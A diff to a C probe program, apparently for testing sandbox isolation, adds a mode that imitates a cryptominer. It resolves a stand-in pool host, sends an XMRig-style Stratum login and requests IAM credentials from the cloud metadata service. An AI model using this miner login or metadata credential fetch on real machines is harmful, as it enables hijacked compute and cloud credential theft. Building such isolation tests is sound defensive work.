@@ -37,6 +37,8 @@ static int count_procs(void) {
 
 int main(int argc, char **argv) {
     const char *mode = argc > 1 ? argv[1] : "id";
+    /* Line by line, so a run killed at its deadline still shows how far it got. */
+    setvbuf(stdout, NULL, _IOLBF, 0);
     if (!strcmp(mode, "id")) {
         char host[256] = "";
         gethostname(host, sizeof host);
@@ -180,6 +182,52 @@ int main(int argc, char **argv) {
             }
         }
         printf("churned=%ld\n", n);
+        return 0;
+    }
+    if (!strcmp(mode, "net")) {
+        /* A miner's network life: resolve a pool by DNS, log in over Stratum, then ask
+           the cloud metadata service for credentials. */
+        unsigned char q[512], r[512];
+        int n = 0;
+        q[n++] = 0xab; q[n++] = 0xcd; q[n++] = 1; q[n++] = 0; q[n++] = 0; q[n++] = 1;
+        for (int i = 0; i < 6; i++) q[n++] = 0;
+        const char *labels[] = {"pool", "example", "org"};
+        for (int i = 0; i < 3; i++) { q[n++] = strlen(labels[i]); memcpy(q + n, labels[i], strlen(labels[i])); n += strlen(labels[i]); }
+        q[n++] = 0; q[n++] = 0; q[n++] = 1; q[n++] = 0; q[n++] = 1;
+        int u = socket(AF_INET, SOCK_DGRAM, 0);
+        struct sockaddr_in ns = {0};
+        ns.sin_family = AF_INET; ns.sin_port = htons(53);
+        inet_pton(AF_INET, "8.8.8.8", &ns.sin_addr);
+        struct timeval tv = {2, 0};
+        setsockopt(u, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
+        sendto(u, q, n, 0, (struct sockaddr *)&ns, sizeof ns);
+        ssize_t got = recv(u, r, sizeof r, 0);
+        if (got < 16) { printf("dns=failed\n"); return 1; }
+        char ip[32];
+        snprintf(ip, sizeof ip, "%d.%d.%d.%d", r[got - 4], r[got - 3], r[got - 2], r[got - 1]);
+        printf("dns=%s\n", ip);
+        int s = socket(AF_INET, SOCK_STREAM, 0);
+        struct sockaddr_in a = {0};
+        a.sin_family = AF_INET; a.sin_port = htons(3333);
+        inet_pton(AF_INET, ip, &a.sin_addr);
+        tried("connect_pool", connect(s, (struct sockaddr *)&a, sizeof a));
+        const char *login = "{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":\"login\",\"params\":{\"login\":\"WALLET\",\"pass\":\"x\",\"agent\":\"XMRig/6.21.0\"}}\n";
+        if (write(s, login, strlen(login)) < 0) return 5;
+        char buf[256] = "";
+        ssize_t k = read(s, buf, 40);
+        if (k > 0) buf[k] = 0;
+        printf("pool_reply=%s\n", buf);
+        close(s);
+        s = socket(AF_INET, SOCK_STREAM, 0);
+        a.sin_port = htons(80);
+        inet_pton(AF_INET, "169.254.169.254", &a.sin_addr);
+        tried("connect_imds", connect(s, (struct sockaddr *)&a, sizeof a));
+        const char *get = "GET /latest/meta-data/iam/security-credentials/ HTTP/1.0\r\nHost: 169.254.169.254\r\n\r\n";
+        if (write(s, get, strlen(get)) < 0) return 6;
+        k = read(s, buf, 24);
+        if (k > 0) buf[k] = 0;
+        for (char *c = buf; *c; c++) if (*c == '\r' || *c == '\n') *c = ' ';
+        printf("imds_reply=%s\n", buf);
         return 0;
     }
     if (!strcmp(mode, "exit")) return atoi(argc > 2 ? argv[2] : "0");
